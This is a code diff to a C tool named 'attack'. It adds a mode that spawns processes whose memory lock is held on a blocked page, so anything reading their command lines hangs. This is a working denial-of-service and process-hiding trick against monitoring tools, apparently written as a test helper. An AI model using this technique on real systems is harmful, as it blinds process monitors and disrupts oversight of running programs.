@@ -4,16 +4,20 @@
 //
 // `attack TERMINAL FILE read|write` holds a terminal, when it is told to: it reads or writes with a
 // part of the file for memory.
+//
+// `attack FILE` has whoever asks for the command lines of its children wait for the file.
 #define _GNU_SOURCE
 #include <errno.h>
 #include <fcntl.h>
 #include <linux/fuse.h>
+#include <pthread.h>
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <sys/mman.h>
 #include <sys/mount.h>
+#include <sys/prctl.h>
 #include <sys/stat.h>
 #include <unistd.h>
 
@@ -115,7 +119,35 @@ static int hold(const char* terminal, const char* path, int reads) {
   return (reads ? read(tty, memory, 64) : write(tty, memory, 64)) < 0;
 }
 
+static void* touch(void* page) {
+  (void)*(volatile char*)page;
+  return NULL;
+}
+
+// The kernel holds what guards a process's memory while it waits for a page that a thread waits for
+// already: so does whoever reads its command line. Eight of them, as the file cannot be opened again.
+static int hide(const char* path) {
+  const int file = open(path, O_RDWR);
+  if (file < 0) return fail("file");
+  for (int i = 0; i < 8; i++) {
+    if (fork() != 0) continue;
+    prctl(PR_SET_NAME, "hidden");
+    void* page = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
+    pthread_t thread;
+    if (page == MAP_FAILED || pthread_create(&thread, NULL, touch, page) != 0) _exit(1);
+    usleep(200 * 1000);
+    mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
+    _exit(0);
+  }
+  usleep(400 * 1000);
+  printf("ready\n");
+  fflush(stdout);
+  pause();
+  return 0;
+}
+
 int main(int argc, char** argv) {
+  if (argc == 2) return hide(argv[1]);
   if (argc == 4) return hold(argv[1], argv[2], strcmp(argv[3], "read") == 0);
   if (argc != 3) return 2;
   const int device = open(argv[2], O_RDWR);
